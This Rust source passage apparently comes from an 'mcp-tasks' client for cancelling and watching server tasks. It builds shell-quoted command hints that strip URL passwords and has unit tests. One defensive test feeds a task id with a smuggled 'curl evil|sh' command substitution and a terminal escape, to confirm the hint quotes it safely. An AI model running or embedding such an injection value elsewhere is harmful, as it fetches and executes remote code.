                crate::say!("Task {} cancelled.", clean(task.id().as_str()));
                Exit::Cancelled
            }
            Ok(outcome) => {
                crate::say!(
                    "The task {} had already finished before the cancel reached it.",
                    clean(task.id().as_str())
                );
                self.finish(&outcome)
            }
            Err(ClientError::Deadline) => {
                self.status.finish();
                crate::say!(
                    "The task has not ended {} s after the cancel.",
                    CANCEL_WAIT.as_secs()
                );
                still_there(task);
                Exit::Timeout
            }
            Err(error) => {
                self.status.finish();
                Exit::report(&error)
            }
        }
    }

    async fn watch(&mut self, task: &TaskCall, terminal: Option<Terminal>) -> Exit {
        crate::say!(
            "Watching task {} (Ctrl-C stops watching)",
            clean(task.id().as_str())
        );
        self.status.start(task.id());
        self.interrupts.arm();
        self.follow(task, terminal.as_ref(), false).await
    }
}

/// `url` as shown to the user: without a password.
fn shown_url(url: &str) -> String {
    match reqwest::Url::parse(url) {
        Ok(mut parsed) if parsed.password().is_some() => {
            let _ = parsed.set_password(None);
            parsed.to_string()
        }
        _ => url.to_owned(),
    }
}

/// Says how to reach `task` again.
fn still_there(task: &TaskCall) {
    crate::say!(
        "{}",
        reach_again(program(), &task.handle().url, task.id().as_str())
    );
}

/// How to run this program again, as the user ran it (for the commands hints print): `cargo
/// run --bin mcp-tasks --` under `cargo run`, else the path it was started by when that is a
/// path (`./target/debug/mcp-tasks`, shell-quoted), else `mcp-tasks`.
fn program() -> &'static str {
    static PROGRAM: std::sync::OnceLock<String> = std::sync::OnceLock::new();
    PROGRAM.get_or_init(|| {
        let argv0 = std::env::args_os().next();
        invocation(
            std::env::var_os("CARGO").is_some(),
            argv0.as_deref().and_then(std::ffi::OsStr::to_str),
        )
    })
}

/// [`program`] of a run where `cargo` says whether `CARGO` is set (cargo sets it for what
/// `cargo run` starts) and `argv0` is the program's first argument.
fn invocation(cargo: bool, argv0: Option<&str>) -> String {
    let Some(argv0) = argv0.filter(|a| a.contains(std::path::MAIN_SEPARATOR)) else {
        return "mcp-tasks".to_owned();
    };
    let path = std::path::Path::new(argv0);
    let in_target = path.components().any(|c| c.as_os_str() == "target")
        || std::env::var_os("CARGO_TARGET_DIR")
            .is_some_and(|dir| path.starts_with(std::path::Path::new(&dir)));
    if cargo && in_target {
        "cargo run --bin mcp-tasks --".to_owned()
    } else {
        shell_words::quote(argv0).into_owned()
    }
}

/// How to reach a task again, as commands that can be pasted into a shell: `program` (as
/// [`program`] says) and the URL without its password, both words shell-quoted, control
/// characters escaped.
fn reach_again(program: &str, url: &str, id: &str) -> String {
    let url = shell_words::quote(&shown_url(url)).into_owned();
    let id = shell_words::quote(id).into_owned();
    format!(
        "The task is still on the server: `{}` follows it, `{}` cancels it.",
        clean(&format!("{program} watch {url} {id}")),
        clean(&format!("{program} cancel {url} {id}"))
    )
}

#[cfg(test)]
mod tests {
    use super::{
        changed_skill_hint, directory_uri, guess_skill, invocation, reach_again,
        unknown_skill_hint, whole_seconds, with_scheme, SkillGuess,
    };
    use tasks_client::Skill;

    fn skill(uri: &str, name: &str, files: &[&str]) -> Skill {
        let files: Vec<serde_json::Value> = files
            .iter()
            .map(|f| serde_json::json!({"uri": f, "digest": "sha256:00", "size": 1}))
            .collect();
        serde_json::from_value(serde_json::json!({"uri": uri,
            "frontmatter": {"name": name, "description": "d"}, "resources": files}))
        .expect("a skill")
    }

    #[test]
    fn a_skill_asked_for_by_its_directory_name_or_file_is_guessed() {
        let report = "skill://conformance/report-writing/SKILL.md";
        let style = "skill://conformance/report-writing/references/style.md";
        let skills = [
            skill(report, "report-writing", &[report, style]),
            skill("skill://git-workflow/SKILL.md", "git-workflow", &[]),
            skill(
                "skill://other/report-writing/SKILL.md",
                "report-writing",
                &[],
            ),
        ];
        let hint = |asked: &str| {
            unknown_skill_hint(&guess_skill(&skills, asked), "mcp-tasks", "http://h/mcp")
        };
        let expected = format!("hint: did you mean {report}?");
        assert_eq!(hint("skill://conformance/report-writing"), expected);
        assert_eq!(hint("skill://conformance/report-writing/"), expected);
        assert_eq!(hint("conformance/report-writing"), expected);
        assert_eq!(
            hint("git-workflow"),
            "hint: did you mean skill://git-workflow/SKILL.md?"
        );
        assert_eq!(
            hint("report-writing"),
            format!("hint: did you mean one of {report}, skill://other/report-writing/SKILL.md?")
        );
        assert_eq!(
            hint(style),
            format!(
                "hint: that is a file of skill {report}; read it with `mcp-tasks skill \
                 http://h/mcp {report} --read references/style.md`"
            )
        );
        assert_eq!(
            guess_skill(&skills, "skill://nothing/SKILL.md"),
            SkillGuess::Nothing
        );
        assert_eq!(guess_skill(&skills, ""), SkillGuess::Nothing);
        assert_eq!(
            hint("skill://nothing/SKILL.md"),
            "hint: `mcp-tasks skills http://h/mcp` lists the server's skills"
        );
    }

    #[test]
    fn a_directory_uri_loses_one_trailing_slash_but_not_its_scheme() {
        assert_eq!(directory_uri("skill://a/b/"), "skill://a/b");
        assert_eq!(directory_uri("skill://a/b//"), "skill://a/b/");
        assert_eq!(directory_uri("skill://a/b"), "skill://a/b");
        assert_eq!(directory_uri("skill://"), "skill://");
        assert_eq!(directory_uri("skill:///"), "skill:///");
    }

    #[test]
    fn a_file_that_fails_verification_hints_at_a_changed_skill() {
        assert_eq!(
            changed_skill_hint(
                "mcp-tasks",
                "http://h/mcp",
                "skill://a/SKILL.md",
                Some(300_000)
            ),
            "hint: the skill may have changed on the server since its entry was fetched (a \
             server may cache an entry for its ttlMs, 300 s for this one); running `mcp-tasks \
             skill http://h/mcp skill://a/SKILL.md` again fetches the current entry"
        );
        assert_eq!(
            changed_skill_hint("mcp-tasks", "http://h/mcp", "skill://a/SKILL.md", None),
            "hint: the skill may have changed on the server since its entry was fetched (a \
             server may cache an entry for its ttlMs); running `mcp-tasks skill http://h/mcp \
             skill://a/SKILL.md` again fetches the current entry"
        );
    }

    #[test]
    fn a_url_without_a_scheme_gets_one_suggested() {
        assert_eq!(
            with_scheme("127.0.0.1:3000/mcp").as_deref(),
            Some("http://127.0.0.1:3000/mcp")
        );
        assert_eq!(
            with_scheme("localhost:3000/mcp").as_deref(),
            Some("http://localhost:3000/mcp")
        );
        assert_eq!(with_scheme("http://127.0.0.1:3000/mcp"), None);
        assert_eq!(with_scheme("https://example.com/mcp"), None);
    }
    use std::time::Duration;

    #[test]
    fn hints_name_the_program_as_it_was_run() {
        let cargo = "cargo run --bin mcp-tasks --";
        assert_eq!(
            invocation(true, Some("/work/repo/target/debug/mcp-tasks")),
            cargo
        );
        assert_eq!(invocation(true, Some("target/release/mcp-tasks")), cargo);
        assert_eq!(
            invocation(false, Some("./target/debug/mcp-tasks")),
            "./target/debug/mcp-tasks",
            "run by its path without cargo: that path"
        );
        assert_eq!(
            invocation(false, Some("/opt/my tools/mcp-tasks")),
            "'/opt/my tools/mcp-tasks'"
        );
        assert_eq!(
            invocation(true, Some("mcp-tasks")),
            "mcp-tasks",
            "from PATH"
        );
        assert_eq!(invocation(false, None), "mcp-tasks");
        assert_eq!(
            reach_again(cargo, "http://h/mcp", "t1"),
            "The task is still on the server: `cargo run --bin mcp-tasks -- watch http://h/mcp t1` \
             follows it, `cargo run --bin mcp-tasks -- cancel http://h/mcp t1` cancels it."
        );
    }

    #[test]
    fn seconds_are_whole_and_rounded_up() {
        assert_eq!(whole_seconds(Duration::ZERO), "0 s");
        assert_eq!(whole_seconds(Duration::from_millis(1)), "1 s");
        assert_eq!(whole_seconds(Duration::from_secs(300)), "300 s");
        assert_eq!(whole_seconds(Duration::from_millis(12_500)), "13 s");
    }

    #[test]
    fn hints_are_safe_to_paste() {
        assert_eq!(
            reach_again("mcp-tasks", "http://127.0.0.1:3000/mcp", "abc_-1"),
            "The task is still on the server: `mcp-tasks watch http://127.0.0.1:3000/mcp abc_-1` \
             follows it, `mcp-tasks cancel http://127.0.0.1:3000/mcp abc_-1` cancels it."
        );
        let hint = reach_again(
            "mcp-tasks",
            "http://user:hunter2@h/mcp",
            "x $(curl evil|sh)\u{1b}[2J",
        );
        assert!(!hint.contains("hunter2"), "{hint}");
        assert!(hint.contains("http://user@h/mcp"), "{hint}");
        assert!(hint.contains("'x $(curl evil|sh)\\u{1b}[2J'"), "{hint}");
    }
}
